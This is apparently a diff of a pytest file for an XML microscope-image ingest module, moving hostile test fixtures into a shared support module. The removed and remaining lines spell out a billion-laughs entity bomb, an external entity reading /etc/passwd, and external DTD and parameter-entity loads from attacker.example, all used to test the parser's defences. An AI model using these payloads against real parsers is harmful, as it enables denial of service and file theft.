@@ -11,6 +11,7 @@ import pytest
 
 from ingest.formats.base import FileFormat
 from ingest.formats.epu import MAX_DEPTH, MAX_XML_BYTES, extract, image_kind
+from tests.support.formats import BILLION_LAUGHS, EXTERNAL_DTD, EXTERNAL_ENTITY
 
 REPO = Path(__file__).resolve().parents[2]
 XSD = "http://www.w3.org/2001/XMLSchema"
@@ -221,28 +222,6 @@ def test_real_sample_files() -> None:
 
 # -- broken and hostile files -------------------------------------------------------------------
 
-
-BILLION_LAUGHS = b"""<?xml version="1.0"?>
-<!DOCTYPE lolz [
- <!ENTITY lol "lol">
- <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
- <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
- <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
- <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
- <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
- <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
- <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
- <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
-]>
-<MicroscopeImage><name>&lol9;</name></MicroscopeImage>"""
-
-EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
-<!DOCTYPE MicroscopeImage [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<MicroscopeImage><name>&secret;</name></MicroscopeImage>"""
-
-EXTERNAL_DTD = b"""<?xml version="1.0"?>
-<!DOCTYPE MicroscopeImage SYSTEM "http://attacker.example/evil.dtd">
-<MicroscopeImage><name>x</name></MicroscopeImage>"""
 
 PARAMETER_ENTITY = b"""<?xml version="1.0"?>
 <!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
